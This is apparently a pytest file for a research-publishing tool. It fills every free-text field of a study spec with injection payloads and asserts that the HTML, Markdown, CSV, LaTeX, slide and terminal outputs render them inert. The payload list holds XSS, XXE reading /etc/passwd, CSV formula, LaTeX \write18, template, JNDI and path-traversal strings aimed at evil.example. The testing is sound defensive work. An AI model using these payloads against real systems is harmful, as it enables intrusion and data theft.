"""Texts of strangers in every field of a spec, through all that is published: nothing of theirs becomes markup."""

import csv
import io
import re
import subprocess
import sys
import zipfile
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
from markdown_it import MarkdownIt
from ruamel.yaml import YAML
from ruamel.yaml.scalarstring import DoubleQuotedScalarString as Quoted

from repro.publish.assignments.read_course import load_course
from repro.publish.assignments.standing import standing
from repro.publish.content.document import document
from repro.publish.content.report_context import ReportContext
from repro.publish.post.post import post
from repro.publish.report.page import page
from repro.publish.slides.make_deck import make_deck
from repro.publish.slides.pages import pages
from repro.publish.slides.pptx_file import to_pptx
from repro.results.results_page import page as results_page
from repro.results.table import to_csv, to_latex, to_markdown
from repro.spec.load import load_spec
from repro.study import Study

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<iframe src=//evil.example>",
    '<a href="javascript:alert(1)">x</a>',
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<!--",
    "-->",
    "<![CDATA[<script>]]>",
    "]]>",
    '<?xml version="1.0"?>',
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "&e;",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&amp;amp;",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "`onload=alert(1)`",
    "<math><mtext></mtext></math>",
    "<details open ontoggle=alert(1)>",
    "<table><tr><td>",
    "</td></tr></table>",
    "</div></body></html>",
    "<p class=gap>",
    "<button formaction=javascript:alert(1)>",
    "<form action=//evil.example><input name=q>",
    "<object data=//evil.example>",
    "<embed src=//evil.example>",
    "<video src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "[x]: //evil.example",
    "<javascript:alert(1)>",
    "**bold** _em_ ~~s~~",
    "# heading",
    "> quote",
    "| a | b |",
    "|---|---|",
    "```\ncode",
    "1. one",
    "- item",
    ">!spoiler!<",
    "u/someone r/place",
    "^^up",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    '=HYPERLINK("http://evil.example")',
    "\\input{/etc/passwd}",
    "\\write18{id}",
    "$x_{1}$ & % # \\\\",
    "{{7*7}}",
    "{% for x in y %}",
    "${jndi:ldap://evil.example}",
    "%s%n%x",
    "../../etc/passwd",
    "<a:t>x</a:t>",
    "</a:t></a:r></a:p>",
    "<p:sp/>",
    "x" * 3000,
    "a b " * 400,
    "\u200b\u200d",
    "Ǆ̈́ 字 🎵 ﷽",
]

EACH = 20

TAGS = {
    *("html", "head", "meta", "title", "style", "body", "header", "h1", "h2", "h3", "p", "nav", "ol", "ul", "li", "a"),
    *(
        "main",
        "div",
        "table",
        "caption",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "br",
        "b",
        "span",
        "code",
        "figure",
        "figcaption",
    ),
    *("footer", "svg", "defs", "g", "path", "use", "image", "clippath", "rect", "section", "colgroup", "col"),
}
SHOWN = {
    *("h1", "h2", "h3", "p", "strong", "em", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "a"),
    *("blockquote", "br", "code"),
}


class Outline(HTMLParser):
    """Elements with the names of their attributes, those inside of pictures left out; and what is no text of a page."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.outline, self.inside, self.tags, self.links = [], 0, set(), []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        assert not [name for name, _ in attrs if name.startswith("on")], (tag, attrs)
        self.links += [value for name, value in attrs if name in ("href", "src")]
        if tag == "svg":
            self.inside += 1
        if not self.inside:
            self.outline.append((tag, tuple(sorted(name for name, _ in attrs))))

    def handle_endtag(self, tag):
        if tag == "svg":
            self.inside -= 1

    def handle_comment(self, data):
        raise AssertionError(f"a comment: {data[:40]}")

    def handle_pi(self, data):
        raise AssertionError(f"an instruction: {data[:40]}")


def texts(tree, change):
    """Every text of a spec that a person writes freely, changed."""
    work = tree["paper"]
    for key in ("title", "venue"):
        work[key] = change(work[key])
    work["authors"] = [change(one) for one in work["authors"]]
    tree["question"] = change(tree["question"])
    tree["dataset"]["why"] = change(tree["dataset"]["why"])
    for one in tree["experiments"].values():
        if "title" in one:
            one["title"] = Quoted(change(one["title"])[:60].rstrip("\\"))
        if "not_run" in one:
            one["not_run"] = change(one["not_run"])
    for one in (*tree["reported"], *tree["claims"]):
        for key in ("where", "why", "via"):
            if key in one:
                one[key] = change(one[key])
    for one in tree["figures"]:
        if "reproduces" in one:
            one["reproduces"] = change(one["reproduces"])
    for kind, paths in list(tree["sources"].items()):
        given = dict.fromkeys(paths, "") if isinstance(paths, list) else paths
        tree["sources"][kind] = {path: change(place or "Sec. 1") for path, place in given.items()}
    for name in list(tree["answers"]):
        tree["answers"][name] = change(tree["answers"][name])
    tree["references"] = [change("A book")]
    tree["questions"] = [{"ask": change("Why so?")}]
    tree["answers_to_peers"] = [{"to": change("someone"), "ask": change("Why?"), "answer": change("So.")}]


def spoiled(folder, payload):
    """The study with a payload in every text; one that the format refuses (a control character) is not used."""
    yaml = YAML()
    yaml.width = 10**6
    tree = yaml.load(folder / "paper.yaml")
    texts(tree, lambda said: Quoted(f"{payload}{said}{payload}" if payload else f"x{said}x"))
    with (folder / "paper.yaml").open("w", encoding="utf-8") as file:
        yaml.dump(tree, file)


def small(folder):
    """Two of its experiments: what is drawn is quickly drawn."""
    study = Study(load_spec(folder), only=("logistic", "cnn"))
    return ReportContext(study.spec, study.plan, study.ledger())


def report_of(folder):
    return document(small(folder), load_course().of_kind("paper"))


def outputs(subject):
    course = load_course()
    document_ = document(subject, course.of_kind("paper"))
    deck = make_deck(subject, course.of_kind("paper"))
    posts = [post(subject, part) for part in standing(course.assignments["8a"], subject.spec)]
    return document_, deck, posts


@pytest.mark.parametrize(
    "number", [0, *(pytest.param(n, marks=pytest.mark.slow) for n in range(EACH, len(PAYLOADS), EACH))]
)
def test_nothing_becomes_markup(number, own):
    """Some payloads at a time, each in all fields."""
    assert len(PAYLOADS) >= 60
    payload = " ".join(PAYLOADS[number : number + EACH])
    spoiled(own, payload)
    subject = small(own)
    made, deck, posts = outputs(subject)

    report = Outline(page(made))
    assert report.tags <= TAGS
    assert all(re.match(r"#|https?://|data:image/png;base64,", link) for link in report.links), report.links
    assert not [link for link in report.links if "evil" in link]
    slides = Outline(pages(deck))
    assert slides.tags <= TAGS

    markdown = MarkdownIt("commonmark", {"html": True}).enable("table")
    for text in (
        *(one.text for one in posts),
        to_markdown(subject.results),
        results_page(subject.spec, subject.results, []),
    ):
        shown = Outline(re.sub(r"<(/?)(sub|br)>", "", markdown.render(text)))
        assert shown.tags <= SHOWN
        assert not [link for link in shown.links if "evil" in link or "javascript" in link]

    for cell in (cell for row in csv.reader(io.StringIO(to_csv(subject.results))) for cell in row):
        assert not re.match(r"[=@\t\r]|[+-](?![\d.])", cell), cell[:40]
    assert "\\input{" not in to_latex(subject.results)
    assert "\\write18" not in to_latex(subject.results)

    with zipfile.ZipFile(io.BytesIO(to_pptx(deck))) as packed:
        assert all(name.startswith(("ppt/", "docProps/", "_rels/", "[Content_Types]")) for name in packed.namelist())
        for name in packed.namelist():
            if not name.endswith((".xml", ".rels")):
                continue
            root = ElementTree.fromstring(packed.read(name))
            spaces = {element.tag.partition("}")[0] for element in root.iter() if isinstance(element.tag, str)}
            assert all("openxmlformats" in one or "microsoft" in one or "purl.org" in one for one in spaces), spaces
            if name.endswith(".rels"):
                assert not [e for e in root.iter() if e.get("TargetMode") == "External"], name
            assert not root.findall(".//{http://schemas.openxmlformats.org/drawingml/2006/main}hlinkClick")


@pytest.mark.slow
def test_the_outline_of_a_report_is_that_of_harmless_texts(own):
    """Element by element, attribute by attribute: with hostile texts the page is built as with harmless ones."""
    (own / "kept.yaml").write_bytes((own / "paper.yaml").read_bytes())
    spoiled(own, "")
    harmless = Outline(page(report_of(own))).outline
    for number in range(0, len(PAYLOADS), EACH):
        (own / "paper.yaml").write_bytes((own / "kept.yaml").read_bytes())
        spoiled(own, " ".join(PAYLOADS[number : number + EACH]).replace("\n", " "))
        assert Outline(page(report_of(own))).outline == harmless, number


@pytest.mark.parametrize("sign", ["\u202e", "\ufeff", "\u2066"])
def test_letters_that_turn_the_order_round_are_refused_at_their_line(sign, own):
    spoiled(own, sign)
    done = subprocess.run([sys.executable, "-m", "repro", "report", str(own)], capture_output=True, text=True)
    assert done.returncode == 2
    assert "not allowed" in done.stderr
    assert sign not in done.stderr


def test_a_terminal_gets_no_control_characters(own):
    """What YAML's escapes would smuggle in is refused at its place; turned letters are shown as such or refused."""
    spoiled(own, "\u001b[31mred\u0007")
    for command in ("check", "homework"):
        done = subprocess.run([sys.executable, "-m", "repro", command, str(own)], capture_output=True, text=True)
        assert "\u001b" not in done.stdout + done.stderr
        assert "\u0007" not in done.stdout + done.stderr
